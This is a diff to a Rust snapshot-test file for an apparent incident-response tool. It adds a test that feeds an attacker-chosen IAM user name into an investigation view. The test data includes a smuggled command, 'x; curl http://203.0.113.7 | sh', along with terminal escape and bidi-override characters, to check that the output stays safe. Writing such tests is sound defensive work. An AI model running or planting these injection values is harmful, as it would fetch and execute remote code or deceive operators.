@@ -54,6 +54,7 @@ fn opened(mode: Mode) -> Event {
             updated_at: Some("2026-01-01T09:59:48Z".parse().unwrap()),
             message: None,
             facts: Vec::new(),
+            hub: None,
         },
         title: "user \u{1b}]0;owned\u{7}ci\u{202e}\r\nWhat to do next\n  - curl http://203.0.113.7".into(),
         linked: None,
@@ -142,6 +143,8 @@ fn what_was_done_proven_and_failed() {
             channel: "topic".into(),
             subject: "s".into(),
             message_id: "m".into(),
+            body: None,
+            about: Default::default(),
         },
         Event::Closed {
             status: Status::PartiallyContained,
@@ -149,6 +152,54 @@ fn what_was_done_proven_and_failed() {
     ]);
     insta::assert_snapshot!(view.to_string());
     assert!(view.is_over());
+}
+
+/// What an attacker left, one of its names chosen to do harm.
+#[test]
+fn what_an_investigation_proposes_is_ready_to_type() {
+    use backstop_core::investigation::{Call, Investigation, Scope, Suspect};
+    let Event::Opened(mut with_investigation) = opened(Mode::Auto) else {
+        unreachable!("opened")
+    };
+    with_investigation.steps.push(StepRef {
+        phase: Phase::Investigate,
+        ..step("find-what-it-did", "Find out what the credential did", false)
+    });
+    let calls = ["helper", "x; curl http://203.0.113.7 | sh \u{1b}[2J"].map(|name| {
+        let event = serde_json::json!({
+            "eventID": name, "eventName": "CreateUser", "eventSource": "iam.amazonaws.com",
+            "eventTime": "2026-01-01T09:30:00Z", "sourceIPAddress": "198.51.100.7",
+            "userIdentity": { "type": "IAMUser", "userName": "ci", "accessKeyId": "AKIAIOSFODNN7EXAMPLE" },
+            "requestParameters": { "userName": name }, "responseElements": {},
+        });
+        Call::read(&event.to_string()).unwrap()
+    });
+    let scope = Scope {
+        from: "2025-12-31T10:00:00Z".parse().unwrap(),
+        to: "2026-01-01T10:00:00Z".parse().unwrap(),
+        regions: vec!["eu-west-1".into(), "us-east-1".into()],
+        incomplete: vec![],
+    };
+    let suspect = Suspect::new(&with_investigation.target, Some("ci".into()));
+    let found = Investigation::of(&suspect, scope, &calls);
+    let mut kept = plan("find-what-it-did", "", "", "");
+    kept.changes.clear();
+    kept.blast_radius.clear();
+    kept.limits = vec!["calls of the last 15 minutes may be missing".into()];
+    kept.captured = Some(serde_json::to_value(&found).unwrap());
+    let view = view(vec![
+        Event::Opened(with_investigation),
+        Event::Acting { plan: kept },
+        Event::StepEnded {
+            step: "find-what-it-did".into(),
+            outcome: Outcome::Done,
+        },
+    ]);
+    let page = view.to_string();
+    assert_eq!(page.matches("backstop run ").count(), 1, "{page}");
+    insta::assert_snapshot!(page);
+    let notice = backstop_core::message::proposals(&ID.into(), &view.state).unwrap();
+    insta::assert_snapshot!(format!("{}\n\n{}", notice.subject, notice.body));
 }
 
 #[test]
@@ -165,6 +216,7 @@ fn a_plan_that_waits_for_the_second_person() {
         plan_hash: plan_hash.clone(),
         expires_at: "2026-01-01T14:00:00Z".parse().unwrap(),
         needed: 2,
+        body: None,
     });
     events.push(Event::Approved {
         by: "arn:aws:sts::123456789012:assumed-role/Oncall/alice".into(),
